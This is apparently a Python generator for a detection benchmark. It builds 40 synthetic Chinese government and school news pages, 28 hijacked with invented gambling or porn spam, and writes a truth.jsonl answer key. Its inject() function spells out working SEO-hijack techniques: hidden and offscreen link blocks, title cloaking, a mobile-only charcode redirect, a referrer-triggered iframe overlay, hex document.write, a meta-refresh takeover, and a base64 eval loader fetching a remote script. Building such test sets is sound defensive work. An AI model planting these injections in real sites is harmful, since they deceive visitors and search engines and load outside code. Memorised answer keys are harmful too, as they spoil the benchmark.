# -*- coding: utf-8 -*-
"""Build bench/data/dev/synthetic-v50/ (k50s; dev since v50 was spent, 2026-12-07; held out in heldout/ from
2026-12-07, when v49 was spent; pending-v50/ at collection): 40 pages, 28 hijacked, 12 clean (4 legit).

    /usr/bin/python3 make_set.py [OUT_DIR]

Fixed seed, no clock, no environment input: a re-run writes byte-identical files.
Four sites of five pages (one template each, 2-3 hijacked pages sharing one injection) and
twenty single pages. Brands and hosts are invented; see README.md and SOURCES.md.
"""
import base64
import json
import os
import random
import sys
from html import escape

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
import articles as A  # noqa: E402
from templates import RENDER, TEMPLATES  # noqa: E402

SEED = 50_0817
OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.join(HERE, "..", "synthetic-v50")

# ------------------------------------------------------------------ sites and single hosts
def site(key, tpl, host, name, place, kind, addr, tel, icp, **kw):
    d = dict(key=key, tpl=tpl, host=host, name=name, place=place, kind=kind, addr=addr, tel=tel, icp=icp,
             zip=kw.get("zip", "000000"), wzbs=kw.get("wzbs", ""), gongan=kw.get("gongan", ""),
             ename=kw.get("ename", ""))
    return d


SITES = [
    site("SA", "L1", "www.wenlan.gov.cn", "汶澜县人民政府", "汶澜县", "gov", "汶澜县澜江大道88号", "0739-5212306",
         "湘ICP备0501873号-1", zip="422611", wzbs="4305990017", gongan="湘公网安备 43059902000113号"),
    site("SB", "C2", "www.tongya.gov.cn", "桐崖市人民政府", "桐崖市", "gov", "桐崖市崖东路1号市民中心", "0554-6603120",
         "皖ICP备0800417号", zip="232281", wzbs="3404980002", gongan="皖公网安备 34049802000208号"),
    site("SC", "M3", "news.jtnu.edu.cn", "江汀师范学院", "江汀师范学院", "edu", "江汀市学府路17号", "0817-2316001",
         "蜀ICP备0514772号", zip="637190"),
    site("SD", "B4", "www.rxvtc.edu.cn", "榕溪职业技术学院", "榕溪职业技术学院", "edu", "榕溪市职教城园区大道6号",
         "0591-8330176", "闽ICP备1200653号-2", zip="350987", gongan="闽公网安备 35019702000561号"),
]

SINGLES = [
    # (key, tpl, host, name, place, kind, addr, tel, icp, extra)
    ("P01", "L1", "www.dailingxian.gov.cn", "黛岭县人民政府", "黛岭县", "gov", "黛岭县城关镇迎宾路2号", "0856-7721030",
     "黔ICP备0600391号", dict(zip="554399", wzbs="5206970003", gongan="黔公网安备 52069702000072号")),
    ("P02", "L1", "www.qiaoshanxian.gov.cn", "峤山县人民政府", "峤山县", "gov", "峤山县峤北路36号", "0762-6128003",
     "粤ICP备0901184号", dict(zip="517381", wzbs="4416990031", gongan="粤公网安备 44169902000357号")),
    ("P03", "L1", "www.huanshuixian.gov.cn", "澴水县人民政府", "澴水县", "gov", "澴水县澴河西路108号", "0712-4906112",
     "鄂ICP备0700662号", dict(zip="432991", wzbs="4209980009", gongan="鄂公网安备 42099802000019号")),
    ("P04", "C2", "www.meigang.gov.cn", "湄港市人民政府", "湄港市", "gov", "湄港市港城大道200号", "0668-3380011",
     "粤ICP备1102287号", dict(wzbs="4409970001", gongan="粤公网安备 44099702000441号")),
    ("P05", "C2", "www.hanze.gov.cn", "邗泽市人民政府", "邗泽市", "gov", "邗泽市泽园路9号", "0523-8561200",
     "苏ICP备0803359号", dict(wzbs="3212980005", gongan="苏公网安备 32129802000190号")),
    ("P06", "C2", "www.tanling.gov.cn", "郯岭市人民政府", "郯岭市", "gov", "郯岭市行政中心A座", "0539-2270305",
     "鲁ICP备0900728号", dict(wzbs="3713970004", gongan="鲁公网安备 37139702000836号")),
    ("P07", "M3", "news.yinshanu.edu.cn", "崟山大学", "崟山大学", "edu", "崟山市大学城崟山路1号", "0471-6598000",
     "蒙ICP备0500214号", dict(zip="010099")),
    ("P08", "M3", "xww.lqnu.edu.cn", "洛泉师范学院", "洛泉师范学院", "edu", "洛泉市泉城南路55号", "0379-6521188",
     "豫ICP备0600318号", dict(zip="471099")),
    ("P09", "M3", "news.ylit.edu.cn", "沅澧理工学院", "沅澧理工学院", "edu", "沅澧市科教新区创新路3号", "0736-7183302",
     "湘ICP备1003461号", dict(zip="415099")),
    ("P10", "B4", "www.xcjtzy.edu.cn", "榭川交通职业技术学院", "榭川交通职业技术学院", "edu", "榭川市交院路12号",
     "0831-3509016", "蜀ICP备1305522号", dict(zip="644099", gongan="川公网安备 51159902000614号")),
    ("P11", "B4", "www.wtgz.edu.cn", "苇塘高级中学", "苇塘高级中学", "edu", "苇塘县文昌路21号", "0459-4675120",
     "黑ICP备1000863号", dict(zip="163899")),
    ("P12", "B4", "www.lxzz.edu.cn", "鸾溪中等职业学校", "鸾溪中等职业学校", "edu", "鸾溪县职教路8号", "0794-3227516",
     "赣ICP备1102790号", dict(zip="344099")),
    ("P13", "N5", "www.shiaozhen.gov.cn", "石坳镇人民政府", "石坳镇", "town", "石坳镇坳前街1号", "0745-2851001",
     "湘ICP备1206611号", dict(wzbs="4312990108")),
    ("P14", "N5", "www.fengyaxiang.gov.cn", "枫垭乡人民政府", "枫垭乡", "town", "枫垭乡垭口村", "0833-5510023",
     "蜀ICP备1101972号", dict(wzbs="5111990207")),
    ("P15", "N5", "www.liaotianzhen.gov.cn", "潦田镇人民政府", "潦田镇", "town", "潦田镇新街32号", "0797-6631006",
     "赣ICP备0902455号", dict(wzbs="3607990311")),
    ("P16", "N5", "www.aolizhen.gov.cn", "岙里镇人民政府", "岙里镇", "town", "岙里镇政府路5号", "0576-8470112",
     "浙ICP备1001369号", dict(wzbs="3310990415")),
    ("P17", "H6", "www.dcslxh.org.cn", "东川流域水利学会", "东川流域水利学会", "org", "东川市滨江路91号水利大厦6楼",
     "0871-6410238", "滇ICP备1200371号", dict(ename="Dongchuan Basin Hydraulic Society")),
    ("P18", "H6", "www.hbcgxh.org.cn", "湖滨城乡规划协会", "湖滨城乡规划协会", "org", "湖滨市规划展览馆三楼",
     "0730-8216609", "湘ICP备1301508号", dict(ename="Hubin Urban and Rural Planning Association")),
    ("P19", "H6", "www.xgsgxh.org.cn", "溪谷社会工作者协会", "溪谷社会工作者协会", "org", "溪谷市民政服务中心四楼",
     "0335-3160587", "冀ICP备1402265号", dict(ename="Xigu Social Workers Association")),
    ("P20", "H6", "www.lzlib.org.cn", "临渚市图书馆学会", "临渚市图书馆学会", "org", "临渚市图书馆新馆B区",
     "0746-8332140", "湘ICP备1502617号", dict(ename="Linzhu Library Society")),
]

# ------------------------------------------------------------------ invented brands (stem, kind word, spam host)
BRANDS = {
    "SA": ("骞屿", "娱乐", "qianyu5517.com"),
    "SB": ("翙川", "棋牌", "huichuanqp.net"),
    "SC": ("琨霄", "体育", "kunxiao-ty.vip"),
    "SD": ("霆澈", "真人", "tingche888.cc"),
    "P01": ("沧翎", "娱乐", "cangling1396.com"),
    "P02": ("朔望", "彩票", "shuowangcp.com"),
    "P04": ("黛鹤", "体育", "daihe-sports.top"),
    "P05": ("珥海", "真人", "erhai-zr.com"),
    "P06": ("渚烟", "电竞", "zhuyan-esport.net"),
    "P07": ("篁音", "电竞", "huangyin77.com"),
    "P08": ("澹溪", "体育", "danxi-ty.com"),
    "P09": ("岚翥", "娱乐", "lanzhu2266.vip"),
    "P10": ("溟渊", "彩票", "mingyuancp8.com"),
    "P11": ("燊禾", "娱乐", "shenhe-yl.net"),
    "P12": ("昶龙", "娱乐", "changlong3344.cc"),
    "P13": ("璟棠", "娱乐", "jingtang-yl.com"),
    "P14": ("羿阳", "影院", "yiyangtv9.xyz"),
    "P15": ("镝火", "体育", "dihuo-ty.com"),
    "P16": ("淼鲸", "体育", "miaojing-sport.com"),
    "P17": ("赭峰", "娱乐", "zhefeng-yule.com"),
    "P18": ("炬鹰", "体育", "juying-ty.net"),
    "P19": ("漪澄", "娱乐", "yicheng9955.com"),
}

# form per site / single hijacked page
SITE_FORMS = {"SA": "title_prefix_offscreen", "SB": "xxgk_row_support", "SC": "mobile_charcode", "SD": "referrer_cloak"}
SITE_HIJACKED = {"SA": 3, "SB": 3, "SC": 2, "SD": 2}
SITE_LEGIT = {"SA": "lottery_fund", "SB": "police", "SC": "antigamble_lecture"}
SINGLE_FORMS = {
    "P01": "entity_title_restore", "P02": "header_name",
    "P04": "spam_source_table", "P05": "stuffed_title", "P06": "hex_docwrite",
    "P07": "spam_author", "P08": "photo_credit", "P09": "base64_loader",
    "P10": "outlet_mark", "P11": "font0_span", "P12": "meta_refresh",
    "P13": "trad_paragraph", "P14": "porn_line_top", "P15": "after_html_links", "P16": "friend_links",
    "P17": "hidden_block_content", "P18": "spam_source_byline", "P19": "credit_end",
}
SINGLE_CLEAN = {"P03": "sports_lottery", "P20": None}

PREV_TITLES = {
    "gov": ["关于开展2025年度政务公开工作考核的通知", "县（市）政府常务会议研究部署近期重点工作"],
    "town": ["镇（乡）召开安全生产工作会议", "关于做好今冬明春农田水利建设的通知"],
    "edu": ["学校召开新学期工作部署会", "学校举行教职工代表大会"],
    "org": ["关于缴纳年度会费的通知", "理事会召开年中工作会议"],
}

COLUMNS = {
    "gov": [("部门动态", "bmdt"), ("乡镇动态", "xzdt"), ("民生关注", "msgz"), ("工作动态", "gzdt")],
    "town": [("工作动态", "gzdt"), ("村务动态", "cwdt")],
    "edu": [("综合新闻", "zhxw"), ("校园动态", "xydt"), ("教学科研", "jxky")],
    "org": [("协会动态", "xhdt"), ("行业资讯", "hyzx")],
}


def hex_of(s):
    """\\xNN escapes for ASCII, \\uNNNN for the rest (how such loaders spell Chinese)."""
    out = []
    for ch in s:
        o = ord(ch)
        out.append("\\x%02x" % o if o < 128 else "\\u%04x" % o)
    return "".join(out)


# ------------------------------------------------------------------ injections
def inject(form, ctx, brand, rng, site_info, truth):
    stem, word, host = brand
    b = stem + word
    res = dict(injections=[], spam=[], marker=None, target=None)

    if form == "title_prefix_offscreen":
        pre = "%s官方网站-%s体育手机版APP" % (b, stem)
        ctx["title_tag"] = "%s_%s" % (pre, ctx["title_tag"])
        links = [("%s官网" % b, "/"), ("%s注册登录" % b, "/reg/"), ("%s体育投注站" % stem, "/ty/"),
                 ("%s老虎机游戏" % stem, "/slot/")]
        ctx["body_top"] = ('<div style="position:absolute;left:-2968px;top:-1470px;width:10px;height:10px;overflow:hidden">'
                           + "".join('<a href="https://www.%s%s" target="_blank">%s</a>' % (host, p, t) for t, p in links)
                           + "</div>\n")
        res["injections"] = ["spam-title-prefix", "offscreen-link-block-top"]
        res["spam"] = [pre] + [t for t, _ in links]
    elif form == "xxgk_row_support":
        kws = ["%s棋牌" % stem, "%s棋牌下载" % stem, "%s电玩城" % stem]
        ctx["table_extra"] = '      <tr><th>关 键 词：</th><td colspan="3">%s</td></tr>' % " ".join(kws)
        sup = "%s棋牌游戏中心" % stem
        ctx["footer_extra"] = '    <p class="cr-support">技术支持：<a href="https://%s/" target="_blank">%s</a></p>\n' % (host, sup)
        res["injections"] = ["xxgk-table-keyword-row", "tech-support-credit-footer"]
        res["spam"] = [" ".join(kws), sup]
    elif form == "mobile_charcode":
        url = "https://m.%s/?agent=jt" % host
        arr = ",".join(str(ord(ch)) for ch in url)
        code = ('<script type="text/javascript">\n'
                '(function(){var ua=navigator.userAgent||"";if(!/(iPhone|iPod|Android|Mobile|HarmonyOS)/i.test(ua)){return;}'
                'var k=[%s],u="";for(var i=0;i<k.length;i++){u+=String.fromCharCode(k[i]);}'
                'setTimeout(function(){top.location.href=u;},450);})();\n</script>\n' % arr)
        ctx["head_extra"] = code
        res["injections"] = ["mobile-ua-charcode-redirect"]
        res["marker"] = "var k=[%s]" % arr
        res["target"] = "m." + host
    elif form == "referrer_cloak":
        code = ('<script>\n(function(r){var se=["baidu.com","sogou.com","so.com","sm.cn","bing.com","toutiao.com"];'
                'for(var i=0;i<se.length;i++){if(r.indexOf(se[i])>-1){'
                "document.write('<div id=\"evo_fx\" style=\"position:fixed;left:0;top:0;width:100%%;height:100%%;z-index:2147483647;background:#fff\">"
                "<iframe src=\"https://'+'%s'+'/?ch=rx\" frameborder=\"0\" style=\"width:100%%;height:100%%\"></iframe></div>');"
                'document.documentElement.style.overflow="hidden";break;}}})(document.referrer);\n</script>\n' % ("v." + host))
        ctx["body_top"] = code
        res["injections"] = ["search-referrer-iframe-cloak"]
        res["marker"] = "'+'%s'+'" % ("v." + host)
        res["target"] = "v." + host
    elif form == "entity_title_restore":
        spam = "%s-%s官方入口-%s手机app下载" % (b, b, stem)
        real = ctx["title_tag"]
        ctx["title_tag"] = "".join("&#%d;" % ord(ch) for ch in spam)
        ctx["head_extra"] = ('<script type="text/javascript">if(!/(spider|bot|slurp|sogou)/i.test(navigator.userAgent)){'
                             'document.title="%s";}</script>\n' % real)
        res["injections"] = ["entity-encoded-title", "js-title-restore"]
        res["spam"] = [spam]
    elif form == "header_name":
        spam = "%s网（%s官网）" % (b, stem)
        ctx["header_name"] = spam
        res["injections"] = ["header-name-spam"]
        res["spam"] = [spam]
    elif form == "spam_source_table":
        spam = "%s官方网站" % b
        ctx["source_shown"] = spam
        truth["source"] = None
        res["injections"] = ["spam-source-table"]
        res["spam"] = [spam]
    elif form == "stuffed_title":
        kws = ["%s平台" % b, "%s官网" % b, "%s开户" % b, "%s APP下载" % b]
        ctx["title_tag"] = ",".join(kws)
        ctx["head_extra"] = ('<meta name="keywords" content="%s">\n<meta name="description" content="%s是值得信赖的线上平台，%s">\n'
                             % (",".join(kws), b, "，".join(kws)))
        res["injections"] = ["keyword-stuffed-title"]
        res["spam"] = [",".join(kws)]
    elif form == "hex_docwrite":
        payload = ('<ul style="height:0;overflow:hidden;margin:0;padding:0">' + "".join(
            '<li><a href="//%s/%s">%s</a></li>' % (host, p, t) for t, p in
            [("%s官网" % b, ""), ("%s下注" % b, "bet/"), ("%s比分直播" % stem, "live/")]) + "</ul>")
        code = '<script type="text/javascript">document.write("%s");</script>\n' % hex_of(payload)
        ctx["footer_extra"] = "    " + code
        res["injections"] = ["hex-docwrite-hidden-links"]
        res["marker"] = hex_of(payload)[:96]
        res["target"] = host
    elif form == "spam_author":
        spam = "%s官方" % b
        ctx["author_shown"] = spam
        truth["author"] = None
        res["injections"] = ["spam-author"]
        res["spam"] = [spam]
    elif form == "photo_credit":
        spam = "图片来源：%s www.%s" % (b, host)
        ctx["photo"] = ('    <p class="mp-img" style="text-align:center"><img src="/uploads/allimg/2025/%s.jpg" width="600" alt="">'
                        '<br><span class="mp-img-cap">%s</span></p>\n' % (ctx["aid"], spam))
        res["injections"] = ["photo-credit-spam"]
        res["spam"] = ["%s www.%s" % (b, host)]
    elif form == "base64_loader":
        js = ('(function(){var s=document.createElement("script");s.src="https://js.%s/tj.js?v=3";s.async=true;'
              '(document.head||document.documentElement).appendChild(s);})();' % host)
        enc = base64.b64encode(js.encode()).decode()
        ctx["head_extra"] = '<script>eval(atob("%s"));</script>\n' % enc
        res["injections"] = ["base64-eval-loader"]
        res["marker"] = enc[:80]
        res["target"] = "js." + host
    elif form == "outlet_mark":
        mark = "【%s讯】" % b
        ctx["paras"][0] = mark + ctx["paras"][0]
        res["injections"] = ["outlet-mark-lead"]
        res["spam"] = ["%s讯" % b]
    elif form == "font0_span":
        spam = "%s城 注册即送体验金 www.%s" % (b, host)
        ctx["paras"][1] = ctx["paras"][1] + '<span style="font-size:0px;line-height:0;color:#fff">%s</span>' % spam
        res["injections"] = ["font0-span-in-paragraph"]
        res["spam"] = [spam]
    elif form == "meta_refresh":
        ctx["head_extra"] = '<meta http-equiv="refresh" content="0.2;url=https://www.%s/?from=lx">\n' % host
        res["injections"] = ["meta-refresh-takeover"]
        res["marker"] = 'content="0.2;url=https://www.%s/' % host
        res["target"] = "www." + host
    elif form == "trad_paragraph":
        spam = "%s娛樂城：線上視訊、體育競猜一站式服務，新會員首存即享豪禮，立即註冊！" % stem
        ctx["paras"].insert(2, spam)
        res["injections"] = ["traditional-spam-paragraph"]
        res["spam"] = [spam]
    elif form == "porn_line_top":
        spam = "%s 午夜无删减高清在线看 %s福利视频每日更新" % (b, stem)
        ctx["body_top"] = '<div style="font-size:12px;color:#999;text-align:center">%s</div>\n' % spam
        res["injections"] = ["porn-keyword-line-top"]
        res["spam"] = [spam]
    elif form == "after_html_links":
        links = [("%s官方" % b, ""), ("%s投注平台" % b, "tz/"), ("%s手机版" % b, "m/")]
        ctx["after_html"] = ('<div style="display:none;visibility:hidden">'
                             + " ".join('<a href="https://%s/%s">%s</a>' % (host, p, t) for t, p in links) + "</div>\n")
        res["injections"] = ["after-html-hidden-links"]
        res["spam"] = [t for t, _ in links]
    elif form == "friend_links":
        links = [("%s在线" % b, "https://www.%s/" % host), ("%s直播" % b, "https://live.%s/" % host)]
        real = [("中国政府网", "https://www.gov.cn/")]
        ctx["footer_extra"] = ('    <div class="xz-flink">友情链接：' + " | ".join(
            '<a href="%s" target="_blank">%s</a>' % (u, t) for t, u in real + links) + "</div>\n")
        res["injections"] = ["friend-links-sold-footer"]
        res["spam"] = [t for t, _ in links]
    elif form == "hidden_block_content":
        spam1 = "%s官网：真人视讯、电子游艺、体育赛事应有尽有" % b
        spam2 = "%s推荐：新用户注册即送88元" % b
        ctx["paras"].insert(1, {"raw": '    <div style="display:none"><p>%s</p><p>%s</p></div>' % (spam1, spam2)})
        res["injections"] = ["hidden-block-in-content"]
        res["spam"] = [spam1, spam2]
    elif form == "spam_source_byline":
        spam = "%s资讯网" % b
        ctx["source_shown"] = spam
        truth["source"] = None
        res["injections"] = ["spam-source-byline"]
        res["spam"] = [spam]
    elif form == "credit_end":
        spam = "本文由%s平台整理发布" % b
        ctx["body_end"] = '    <p class="hx-note">%s，转载请注明出处。</p>\n' % spam
        res["injections"] = ["brand-credit-end"]
        res["spam"] = [spam]
    else:
        raise ValueError(form)
    return res


# ------------------------------------------------------------------ page assembly
def rand_date(rng):
    m = rng.randint(1, 11)
    d = rng.randint(1, 28)
    return "2025-%02d-%02d" % (m, d), "%02d:%02d" % (rng.randint(8, 17), rng.randint(0, 59))


def date_cn(d):
    y, m, dd = d.split("-")
    return "%s年%d月%d日" % (y, int(m), int(dd))


def url_for(tpl, host, colpath, aid, date):
    y, m, _ = date.split("-")
    if tpl == "L1":
        return "https://%s/zwyw/%s/detail-%d.html" % (host, colpath, aid)
    if tpl == "C2":
        return "https://%s/xxgk/%s/doc_%d.html" % (host, colpath, aid)
    if tpl == "M3":
        return "https://%s/%s/%d.html" % (host, colpath, aid)
    if tpl == "B4":
        return "https://%s/news/%s/%s-%d" % (host, colpath, date, aid)
    if tpl == "N5":
        return "http://%s/index.php?itemid=%d" % (host, aid)
    return "https://%s/xhdt/%s/%s/%d.html" % (host, y, m, aid)


class TopicPool:
    def __init__(self, rng):
        self.rng = rng
        self.pools = {}

    def take(self, kind, avoid=()):
        """Next topic of the kind, never one the same site already used."""
        lst = {"gov": A.GOV_TOPICS, "town": A.TOWN_TOPICS, "edu": A.EDU_TOPICS, "org": A.ORG_TOPICS}[kind]
        p = self.pools.get(kind)
        if not p or all(f in avoid for f in p):
            p = (p or []) + [f for f in lst if f not in (p or [])]
            self.rng.shuffle(p)
            self.pools[kind] = p
        for i in range(len(p) - 1, -1, -1):
            if p[i] not in avoid:
                return p.pop(i)
        raise RuntimeError("no topic left")


def build_page(rng, s, topic_fn, form, brand, role, pool_prev_title, shared=None):
    """role: 'hijacked' / 'clean' / 'legit'. shared: a per-site dict so site pages share one injection."""
    art = topic_fn(rng, dict(place=s["place"], kind=s["kind"]))
    date, time = rand_date(rng)
    colname, colpath = rng.choice(COLUMNS[s["kind"]])
    aid = rng.randint(1200, 9800)
    tpl = s["tpl"]
    url = url_for(tpl, s["host"], colpath, aid, date)
    author = A.person(rng)
    show_author = tpl != "C2" and rng.random() < 0.7
    ctx = dict(site=s, title=art["title"], date=date, time=time, date_cn=date_cn(date), column=colname,
               colpath=colpath, aid=aid, url=url, hits=rng.randint(60, 4200), header_name=s["name"],
               source_shown=art["source"], author_shown=author if show_author else None,
               paras=[escape(p, quote=False) for p in art["paras"]], photographer=A.person(rng),
               editor=A.person(rng), reviewer=A.person(rng), prev_title=pool_prev_title,
               index_no="%09d%s/2025-%05d" % (rng.randint(10 ** 8, 10 ** 9 - 1), rng.choice("ABCDX"), rng.randint(1, 9999)),
               theme=rng.choice(["综合政务/其他", "城乡建设、环境保护/其他", "卫生、体育/其他", "公安、安全、司法/公安",
                                 "民政、扶贫、救灾/其他", "农业、林业、水利/水利"]),
               doc_no=rng.choice(["无", "—"]))
    sep = {"L1": "_", "C2": " - ", "M3": "-", "B4": " | ", "N5": "--", "H6": " - "}[tpl]
    ctx["title_tag"] = escape(art["title"], quote=False) + sep + s["name"]
    if tpl == "M3":
        ctx["author_shown"] = author if rng.random() < 0.8 else None
    truth = dict(title=art["title"], date=date, source=art["source"],
                 author=ctx["author_shown"], text="\n".join(art["paras"]))
    res = dict(injections=[], spam=[], marker=None, target=None)
    if role == "hijacked":
        res = inject(form, ctx, brand, rng, s, truth)
    html = RENDER[tpl](ctx)
    return url, html, truth, res, art["title"]


def main():
    rng = random.Random(SEED)
    pool = TopicPool(rng)
    pages = []

    for s in SITES:
        n_h = SITE_HIJACKED[s["key"]]
        roles = ["hijacked"] * n_h + (["legit"] if s["key"] in SITE_LEGIT else [])
        roles += ["clean"] * (5 - len(roles))
        used = set()
        for i, role in enumerate(roles):
            if role == "legit":
                fn = A.LEGIT[SITE_LEGIT[s["key"]]]
            else:
                fn = pool.take(s["kind"], used)
                used.add(fn)
            pages.append((s, fn, SITE_FORMS[s["key"]] if role == "hijacked" else None, BRANDS.get(s["key"]), role,
                          "site %s (%s), template %s" % (s["key"], s["host"], s["tpl"])))
    for key, tpl, host, name, place, kind, addr, tel, icp, extra in SINGLES:
        s = site(key, tpl, host, name, place, kind, addr, tel, icp, **extra)
        if key in SINGLE_FORMS:
            pages.append((s, pool.take(kind), SINGLE_FORMS[key], BRANDS[key], "hijacked",
                          "single page (%s), template %s" % (host, tpl)))
        else:
            leg = SINGLE_CLEAN[key]
            fn = A.LEGIT[leg] if leg else pool.take(kind)
            pages.append((s, fn, None, None, "legit" if leg else "clean",
                          "single page (%s), template %s" % (host, tpl)))

    order = list(range(len(pages)))
    rng.shuffle(order)
    os.makedirs(os.path.join(OUT, "html"), exist_ok=True)
    records = []
    built = {}
    # build in definition order (so a site's pages draw from the rng in a fixed sequence), number by shuffle
    for pi, (s, fn, form, brand, role, where) in enumerate(pages):
        prev = rng.choice(PREV_TITLES[s["kind"]])
        url, html, truth, res, title = build_page(rng, s, fn, form, brand, role, prev)
        built[pi] = (s, form, role, where, url, html, truth, res)
    for n, pi in enumerate(order, 1):
        s, form, role, where, url, html, truth, res = built[pi]
        pid = "sv50-%03d" % n
        enc = TEMPLATES[s["tpl"]]["encoding"]
        data = html.encode(enc)  # strict: a character the charset cannot hold is an error
        with open(os.path.join(OUT, "html", pid + ".html"), "wb") as f:
            f.write(data)
        hij = role == "hijacked"
        if hij:
            origin = "synthetic: %s, hijacked (%s)" % (where, ", ".join(res["injections"]))
        elif role == "legit":
            origin = "synthetic: %s, clean page, legit (lawful lottery/gambling-law topic)" % where
        else:
            origin = "synthetic: %s, clean page" % where
        records.append(dict(
            id=pid, url=url, title=truth["title"], date=truth["date"], source=truth["source"],
            author=truth["author"], text=truth["text"], hijacked=hij, injections=res["injections"],
            spam_strings=res["spam"], legit=role == "legit", lang="zh", origin=origin, kind="synthetic",
            site=s["host"], capture="html", encoding=enc, template=s["tpl"], marker=res["marker"],
            target=res["target"]))
    records.sort(key=lambda r: r["id"])
    with open(os.path.join(OUT, "truth.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for r in records:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")
    print("wrote %d pages to %s" % (len(records), os.path.normpath(OUT)))


if __name__ == "__main__":
    main()
